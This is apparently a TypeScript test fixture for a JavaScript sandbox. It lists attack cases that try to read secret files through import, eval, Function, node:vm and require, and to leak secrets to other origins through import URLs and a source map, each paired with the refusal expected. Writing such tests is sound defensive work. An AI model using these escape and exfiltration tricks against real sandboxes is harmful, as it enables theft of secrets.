/**
 * Attacks that import.
 *
 * @module
 */
import type { Attack } from "./attack.ts";

/** Imports of files, in every form. */
const FILES: readonly Attack[] = [
  {
    name: "import of a file",
    code: "return (await import('file://' + world.folder + '/secret.js')).default;",
    refused: "read",
  },
  {
    name: "import of a file on localhost",
    code: "return (await import('FILE://localhost' + world.folder + '/secret.js')).default;",
    refused: "read",
  },
  {
    name: "import of JSON",
    code: `const from = "file://" + world.folder + "/secret.json";
      return JSON.stringify((await import(from, { with: { type: "json" } })).default);`,
    refused: "read",
  },
  {
    name: "import of text",
    code: `const from = "file://" + world.folder + "/secret.txt";
      return (await import(from, { with: { type: "text" } })).default;`,
    refused: "read",
  },
  {
    name: "import through data:",
    code: "return (await import(script(exporting(world)))).default;",
    refused: "read",
  },
  {
    name: "import through blob:",
    code: "return (await import(blob(exporting(world)))).default;",
    refused: "read",
  },
  {
    name: "dynamic import in data:",
    code: "return (await import(script(exportingLater(world)))).default;",
    refused: "read",
  },
  {
    name: "import in eval",
    code:
      `return (await eval("import(" + JSON.stringify("file://" + world.folder + "/secret.js") + ")")).default;`,
    refused: "read",
  },
  {
    name: "import in a Function",
    code: `const load = new Function("from", "return import(from)");
      return (await load("file://" + world.folder + "/secret.js")).default;`,
    refused: "read",
  },
  {
    name: "import in node:vm",
    code: `const vm = await import("node:vm");
      const from = JSON.stringify("file://" + world.folder + "/secret.js");
      const importModuleDynamically = vm.constants.USE_MAIN_CONTEXT_DEFAULT_LOADER;
      return (await new vm.Script("import(" + from + ")", { importModuleDynamically }).runInThisContext()).default;`,
    refused: "read",
  },
  {
    name: "require of JSON",
    code: `const { createRequire } = await import("node:module");
      return JSON.stringify(createRequire("file://" + world.folder + "/x.js")("./secret.json"));`,
    refused: "read",
  },
  {
    name: "require of a module",
    code: `const { createRequire } = await import("node:module");
      return createRequire("file://" + world.folder + "/x.js")("./secret.js").default;`,
    refused: "read",
  },
];

/** Imports that tell a server something, or bring in code that nobody locked. */
const ORIGINS: readonly Attack[] = [
  {
    name: "import of a path",
    code: "await import('/' + world.secret + '.js');",
    refused: "not cached",
  },
  {
    name: "import of its own origin with data",
    code: "await import(world.own + '/plugin.js?' + world.secret);",
    refused: "not cached",
  },
  {
    name: "import of a new module of its own origin",
    code: "await import(world.own + '/' + world.secret + '.js');",
    refused: "not cached",
  },
  {
    name: "import of JSON of its own origin",
    code: "await import(world.own + '/' + world.secret + '.json', { with: { type: 'json' } });",
    refused: "not cached",
  },
  {
    name: "import of a granted host",
    code: "await import(world.allowed + '/' + world.secret + '.js');",
    refused: "import",
  },
  {
    name: "import of another origin",
    code: "await import(world.other + '/' + world.secret + '.js');",
    refused: "import",
  },
  {
    name: "import of another origin through data:",
    code:
      "await import(script('import ' + JSON.stringify(world.other + '/x.js?' + world.secret)));",
    refused: "import",
  },
  {
    name: "a source map of another origin",
    code: `const text = "export function fail() { throw new Error('mapped'); }\\n" +
        "//# sourceMappingURL=" + world.other + "/" + world.secret + ".map";
      const { fail } = await import(script(text));
      try { fail(); } catch (error) { console.error(error.stack); }
      await new Promise((resolve) => setTimeout(resolve, 200));
      throw new Error("no word of it");`,
    refused: { says: /no word of it/, because: "a source map that cannot be had is left out" },
  },
];

/** All of these. */
export const IMPORTS: readonly Attack[] = [...FILES, ...ORIGINS];
